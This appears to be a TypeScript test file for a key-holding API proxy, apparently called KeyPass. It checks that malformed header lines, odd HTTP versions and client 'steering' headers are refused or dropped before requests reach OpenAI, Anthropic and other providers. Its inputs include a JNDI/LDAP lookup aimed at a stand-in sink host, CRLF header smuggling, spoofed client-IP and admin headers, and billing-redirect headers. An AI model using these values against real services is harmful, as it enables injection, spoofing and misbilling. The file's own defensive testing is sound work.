import type { Case, Family } from './case.ts';
import { carriers } from './header-names.ts';
import { openai, targets, type Target } from './providers.ts';
import { bearer, get, host, passes, post, refused, request } from './requests.ts';

const list = '/v1/proxy/passthrough/openai/v1/models';
const chat = `/v1/proxy/passthrough/openai${openai.chat}`;
const listed = { provider: 'openai', line: 'GET /v1/models' };

/** Lines that are no header, or not plainly one (RFC 9112, 5). */
const malformed = [
  'X : y',
  ': y',
  ':',
  '::',
  'X',
  'X y',
  'X\x00: y',
  'X: \x00',
  'X: a\x00b',
  'X: a\rb',
  'X: a\nb',
  'X: a\r\n b',
  'X: a\r\n\tb',
  'X: \x01',
  'X: \x08',
  'X: \x0b',
  'X: \x0c',
  'X: \x1b[31m',
  ' X: y',
  '\tX: y',
  'X(): y',
  'X@: y',
  '"X": y',
  'X/: y',
  'X[0]: y',
  '=: y',
  '{}: y',
  'X,Y: z',
  'X;Y: z',
  'X\xa0: y',
  '\xe4: y',
  `X: ${'a'.repeat(100_000)}`,
  `${'a'.repeat(20_000)}: x`,
  Array.from({ length: 300 }, (_, at) => `X-${at}: y`).join('\r\n'),
  Array.from({ length: 5_000 }, () => 'Accept: y').join('\r\n'),
];

/** Odd, and yet one header that means nothing here. */
const harmless = [
  'X:',
  'X:    ',
  'X:\ty',
  'X: \xe4',
  'X: \xff\xfe',
  'X: \x7f',
  '%: y',
  '__proto__: y',
  'constructor: y',
  `X: ${'a'.repeat(10_000)}`,
  Array.from({ length: 150 }, (_, at) => `X-${at}: y`).join('\r\n'),
];

const versions = [
  'HTTP/0.9',
  'HTTP/1.2',
  'HTTP/1',
  'HTTP/2.0',
  'HTTP/2',
  'HTTP/3',
  'http/1.1',
  'HTTP/11',
  'HTTP/1.1.1',
  'HTTPS/1.1',
  'HTTP/ 1.1',
  'ICY/1.1',
  'HTTP/1.1 ',
  '',
];

const at = (line: string, ...headers: readonly string[]) => request(line, [host, bearer, ...headers]);

/** What a client can ask of the connection, of proxies and of KeyPass itself: nothing of it is anybody else's business. */
const steering = [
  'Connection: close, authorization',
  'Connection: keep-alive, host, content-length, x-goog-api-key',
  'Proxy-Connection: keep-alive',
  'Keep-Alive: timeout=1000000',
  'TE: trailers',
  'TE: trailers, deflate;q=0.5',
  'Trailer: Authorization',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA',
  'Upgrade: foo/1\r\nConnection: Upgrade',
  'Expect: 100-continue',
  'Expect: 200-ok',
  'Max-Forwards: 0',
  'Range: bytes=0-1',
  'If-None-Match: *',
  'If-Modified-Since: Mon, 23 Nov 2099 00:00:00 GMT',
  'Cache-Control: only-if-cached',
  'Pragma: no-cache',
  'X-HTTP-Method-Override: DELETE',
  'X-HTTP-Method: POST',
  'X-Method-Override: PUT',
  'Accept-Encoding: gzip, br, zstd',
  'Accept-Language: de',
  'Accept-Charset: utf-16',
  'Content-Type: application/json',
  'Content-Language: de',
  'Content-Location: http://$SINK/',
  'Content-MD5: x',
  'User-Agent: ${jndi:ldap://$SINK/a}',
  'Referer: http://$SINK/',
  'Origin: http://$SINK',
  'Origin: null',
  'Sec-Fetch-Site: cross-site',
  'Cookie: keypass=$SESSION',
  'Cookie: __Host-keypass=$SESSION',
  'X-Forwarded-For: 127.0.0.1',
  'X-Forwarded-For: 1.2.3.4\r\nX-Forwarded-For: 5.6.7.8',
  'X-Real-IP: 127.0.0.1',
  'True-Client-IP: 127.0.0.1',
  'X-Client-IP: 127.0.0.1',
  'CF-Connecting-IP: 127.0.0.1',
  'Via: 1.1 $SINK',
  'X-Request-Id: mine',
  'Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
  'OpenAI-Organization: org-other',
  'OpenAI-Project: proj_other',
  'X-Goog-User-Project: other',
  'X-HF-Bill-To: other',
  'Anthropic-Workspace-Id: other',
  'X-Amz-Security-Token: other',
  'Ocp-Apim-Subscription-Key: other',
  'X-KeyPass-Error: none',
  'X-KeyPass-User: admin',
];

/** All of them at once to each provider: what its list has goes up, in its own words, and nothing besides. */
function all({ id, chat: path, body, allowed }: Target): Case {
  const names = Object.entries({ ...Object.fromEntries(carriers.map((name) => [name, '$MARK'])), ...allowed });
  const send = post(
    `/v1/proxy/passthrough/${id}${path}`,
    JSON.stringify(body),
    'Accept: text/$MARK',
    ...names.map(([name, value]) => `${name}: ${value}`),
  );
  return passes(`every header to ${id}`, send, {
    provider: id,
    line: `POST ${path}`,
    headers: { accept: 'text/$MARK', ...allowed },
  });
}

/** The client's own name of a call is the connection's own before it goes up. */
function idempotent({ id, chat: path, body }: Target): Case {
  const send = post(`/v1/proxy/passthrough/${id}${path}`, JSON.stringify(body), 'Idempotency-Key: $MARK');
  return passes(`an idempotency key to ${id}`, send, {
    provider: id,
    line: `POST ${path}`,
    headers: { 'idempotency-key': '*' },
  });
}

const unlisted: readonly Case[] = [
  ...[
    'context-1m-2025-08-07',
    'files-api-2025-04-14,context-1m-2025-08-07',
    '$MARK',
    '*',
    'output-128k-2025-02-19',
  ].map((value) =>
    refused(
      `anthropic-beta: ${value}`,
      post('/anthropic/v1/messages', '{}', `anthropic-beta: ${value}`),
      '400 unsupported_parameter',
    ),
  ),
  refused(
    'anthropic-beta twice',
    post(
      '/anthropic/v1/messages',
      '{}',
      'anthropic-beta: files-api-2025-04-14',
      'Anthropic-Beta: context-1m-2025-08-07',
    ),
    '400 unsupported_parameter',
  ),
  ...['assistants=v1', 'realtime=v1', '$MARK', 'assistants=v2, agents=v1'].map((value) =>
    refused(
      `openai-beta: ${value}`,
      post(chat, JSON.stringify(openai.body), `OpenAI-Beta: ${value}`),
      '400 unsupported_parameter',
    ),
  ),
];

export const headers: Family = {
  name: 'headers',
  cases: [
    ...malformed.map((line) =>
      refused(
        `the line ${JSON.stringify(line).slice(0, 60)}`,
        get(list, line),
        line.length > 10_000 || line.startsWith('X-0') ? '431' : '400',
      ),
    ),
    ...harmless.map((line) => passes(`the line ${JSON.stringify(line).slice(0, 60)}`, get(list, line), listed)),
    ...versions.map((version) => refused(`version ${JSON.stringify(version)}`, at(`GET ${list} ${version}`), '505')),
    refused('no version', `GET ${list}\r\n${host}\r\n${bearer}\r\n\r\n`, '505'),
    refused('two spaces', at(`GET  ${list} HTTP/1.1`), '400'),
    refused('a tab', at(`GET\t${list} HTTP/1.1`), '505'),
    passes('HTTP/1.0', at(`GET ${list} HTTP/1.0`), listed),
    ...steering.map((line) => passes(line.slice(0, 60), get(list, line), listed)),
    refused(
      'a WebSocket',
      get(
        list,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ),
      '501 websocket_unsupported',
    ),
    ...carriers.map((name) => passes(`a mark in ${name}`, get(list, `${name}: $MARK`), listed)),
    passes('a mark in accept', get(list, 'Accept: $MARK/*'), { ...listed, headers: { accept: '$MARK/*' } }),
    ...targets.map(all),
    ...targets.map(idempotent),
    ...unlisted,
  ],
};
